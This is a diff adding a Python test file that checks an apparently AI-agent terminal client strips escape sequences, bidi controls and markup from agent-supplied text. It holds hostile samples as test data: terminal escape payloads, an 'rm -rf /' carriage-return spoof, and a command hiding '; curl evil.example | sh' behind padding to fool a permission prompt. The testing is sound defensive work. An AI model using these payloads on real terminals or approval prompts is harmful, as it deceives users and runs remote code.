@@ -1,0 +1,193 @@
+"""What an agent says never drives the terminal, whatever field it says it in."""
+
+from __future__ import annotations
+
+import re
+import unicodedata
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from midflight import events as e
+from midflight.cli.asking import Asking
+from midflight.cli.output import Fragment, exact, inert, one_line, write
+from midflight.cli.render import Blocks, approval, markdown
+from midflight.cli.screen import Screen
+from midflight.cli.status import StatusLine
+from midflight.cli.transcript import Transcript
+from midflight.values import Denial, PlanEntry, Question, QuestionOption, TokenUsage
+
+ATTACKS = (
+    "\x1b[31mred\x1b[0m",
+    "\x1b]0;title\x07",
+    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
+    "\x1b]52;c;ZXZpbA==\x07",
+    "\x1bP1$r0m\x1b\\",
+    "\x9b2J\x9d0;x\x9c",
+    "rm -rf /\rls      ",
+    "abc\b\b\bxyz",
+    "\u202egnp.exe\u202c",
+    "\u2066x\u2069\u200f",
+    "[link=http://evil.example]click[/link] [red]x[/red]",
+    "\ud800",
+    "\x00\x7f\x85",
+)
+DANGEROUS = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
+)
+HOSTILE = st.lists(st.one_of(st.text(), st.sampled_from(ATTACKS))).map("".join)
+
+
+@given(HOSTILE)
+@example("\x1b]0;never ended")
+@example("\x1b\x1b[31m\x1b]\x1b[")
+def test_inert_text_has_nothing_that_a_terminal_obeys(text: str) -> None:
+    assert DANGEROUS.search(inert(text)) is None
+    assert inert(inert(text)) == inert(text)
+
+
+@given(st.text(st.characters(categories=("L", "N", "P", "S", "Zs"), include_characters="\n\t")))
+def test_plain_text_is_not_changed(text: str) -> None:
+    assert inert(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("a\x1b[1;31mb\x1b[0mc", "abc"),
+        ("a\x1b]0;title\x07b", "ab"),
+        ("a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\b", "alinkb"),
+        ("a\x1bPq#0\x1b\\b", "ab"),
+        ("a\x9b31mb", "ab"),
+        ("one\r\ntwo", "one\ntwo"),
+        ("a\x1b]0;never ended", "a0;never ended"),
+    ],
+)
+def test_sequences_go_as_a_whole(text: str, left: str) -> None:
+    assert inert(text) == left
+
+
+@given(HOSTILE)
+def test_what_is_to_be_approved_hides_nothing(text: str) -> None:
+    shown = exact(text)
+    assert DANGEROUS.search(shown) is None
+    visible = [char for char in text if unicodedata.category(char)[0] not in "CZ"]
+    hidden = [
+        char for char in text if unicodedata.category(char)[0] in "CZ" and char not in "\n\t "
+    ]
+    assert sum(shown.count(f"<U+{ord(char):04X}>") > 0 for char in hidden) == len(hidden)
+    assert [char for char in re.sub(r"<U\+[0-9A-F]+>", "", shown) if not char.isspace()] == [
+        char for char in re.sub(r"<U\+[0-9A-F]+>", "", "".join(visible)) if not char.isspace()
+    ]
+
+
+def test_a_hidden_tail_is_seen_when_a_command_is_approved(tmp_path: Path) -> None:
+    command = "ls\r" + " " * 300 + "; curl evil.example | sh\n" * 200 + "\x1b[2K\u202etail"
+    shown = _text(approval("Bash", {"command": command}, tmp_path))
+    assert shown.count("curl evil.example") == 200
+    assert "ls<U+000D>" in shown
+    assert "<U+001B>[2K<U+202E>tail" in shown
+
+
+def test_one_line_is_one_line_and_bounded() -> None:
+    assert one_line("a\n\tb  c\x1b[31m") == "a b c"
+    assert one_line("x" * 300, 10) == "x" * 9 + "…"
+
+
+@given(HOSTILE, st.integers(0, 40))
+def test_markdown_is_laid_out_without_a_sequence_of_its_own(text: str, more: int) -> None:
+    for _, part in markdown(text, 20 + more):
+        assert DANGEROUS.search(part) is None
+
+
+@given(st.lists(st.sampled_from(["text", "\n", "\n\n", "- item\n", "```\n", "  in\n", "1. x\n"])))
+def test_cutting_markdown_into_blocks_loses_nothing(pieces: list[str]) -> None:
+    blocks = Blocks()
+    done = [block for piece in pieces for block in blocks.feed(piece)]
+    assert "".join(done) + blocks.rest == "".join(pieces)
+
+
+def test_code_and_lists_stay_whole() -> None:
+    blocks = Blocks()
+    text = "para\n\n- a\n\n- b\n\n```\ncode\n\nmore\n```\n\nend\n"
+    assert blocks.feed(text) == ["para\n\n", "- a\n\n- b\n\n", "```\ncode\n\nmore\n```\n\n"]
+    assert blocks.rest == "end\n"
+
+
+# ------------------------------------------------------------------ every field of every event
+
+VALUES: dict[str, Any] = {
+    "status": "failed",
+    "decision": "deny",
+    "by": "policy",
+    "delivery": "queue",
+    "kind": "execute",
+    "level": "warning",
+    "origin": "message",
+}
+
+
+def _filled(kind: type[e.Event], attack: str) -> e.Event:
+    """Return an event with the attack in every field that can hold text."""
+    question = Question(question=attack, header=attack, options=(QuestionOption(label=attack),))
+    by_type: dict[str, Any] = {
+        "str": attack,
+        "str | None": attack,
+        "dict[str, Any]": {attack: attack, "command": attack},
+        "tuple[str, ...]": (attack,),
+        "tuple[Question, ...]": (question,),
+        "tuple[PlanEntry, ...]": (PlanEntry(text=attack, status="in_progress"),),
+        "TokenUsage": TokenUsage(),
+        "tuple[Denial, ...]": (Denial(call="c", name=attack, reason=attack),),
+        "dict[str, str | list[str]]": {attack: attack},
+        "Any": {attack: attack},
+        "float": 1.0,
+        "float | None": 1.0,
+        "int": 1,
+        "bool": True,
+    }
+    told = {name: text for name, text in kind.__annotations__.items() if name != "durable"}
+    fields = {name: VALUES[name] if name in VALUES else by_type[told[name]] for name in told}
+    return kind(**fields)
+
+
+KINDS = e.Event.__subclasses__()
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__)
+def test_no_field_of_any_event_drives_the_terminal(
+    kind: type[e.Event], attack: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    event = _filled(kind, attack)
+    transcript, screen, status = Transcript(tmp_path), Screen(tmp_path), StatusLine()
+    write(transcript.take(event))
+    write(screen.take(event, 80))
+    write("\n".join(screen.live(80)))
+    status.take(event, 0.0)
+    line = status.line(0.0, 80, asking=False, queued=0)
+    if isinstance(event, e.PermissionRequested | e.QuestionRequested):
+        asking = Asking(tmp_path)
+        asking.add(event)
+        write(asking.shown())
+        assert DANGEROUS.search(asking.prompt) is None
+    out = capsys.readouterr()
+    assert DANGEROUS.search(out.out + out.err + line) is None
+
+
+def test_markup_of_rich_is_only_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    text = "[link=http://evil.example]click[/link] and [red]this[/red]"
+    write(Screen(tmp_path).take(e.Notice(level="info", text=text), 80))
+    assert text in capsys.readouterr().out
+
+
+def test_a_style_that_is_none_is_not_written(capsys: pytest.CaptureFixture[str]) -> None:
+    write([("31m\x1b]0;x\x07", "text")])
+    assert capsys.readouterr().out == "text"
+
+
+def _text(fragments: list[Fragment]) -> str:
+    return "".join(text for _, text in fragments)
